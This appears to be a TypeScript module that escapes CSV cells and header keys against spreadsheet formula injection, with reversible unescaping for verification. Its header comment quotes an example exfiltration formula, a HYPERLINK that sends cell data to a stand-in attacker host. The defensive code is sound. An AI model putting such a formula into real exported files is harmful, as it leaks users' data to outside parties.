/**
 * Spreadsheet formula injection: a cell that starts with = + - @ (or a tab or carriage return)
 * is run as a formula when a researcher opens the file in Excel or Sheets
 * (=HYPERLINK("https://evil.example?"&A1)). Exported cells, the header row's included, get a
 * leading apostrophe, which spreadsheets show as text. Plain numbers (-5, +1.2e3) are left
 * alone, and the escape is reversible, so a verifier recovers exactly the values (and column
 * names) that were hashed.
 */
const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * The same rule as a RegExp, for Papa.unparse's `escapeFormulae` (its own `true` misses a
 * formula followed by a line break: `.*$` stops at the first newline).
 */
export const FORMULA_CELL = /^(?![+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$)[=+\-@\t\r]/;

function needsEscape(value: string): boolean {
  if (value.startsWith("'")) return needsEscape(value.slice(1));
  return /^[=+\-@\t\r]/.test(value) && !NUMBER.test(value);
}

export function escapeCell(value: string): string {
  return needsEscape(value) ? `'${value}` : value;
}

export function unescapeCell(value: string): string {
  return value.startsWith("'") && needsEscape(value.slice(1)) ? value.slice(1) : value;
}

/** Escapes a record's values and its keys, which become the header row. */
export function escapeRow(row: Record<string, string>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(row).map(([key, value]) => [escapeCell(key), escapeCell(value)]),
  );
}

export function unescapeRow(row: Record<string, string>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(row).map(([key, value]) => [unescapeCell(key), unescapeCell(value)]),
  );
}
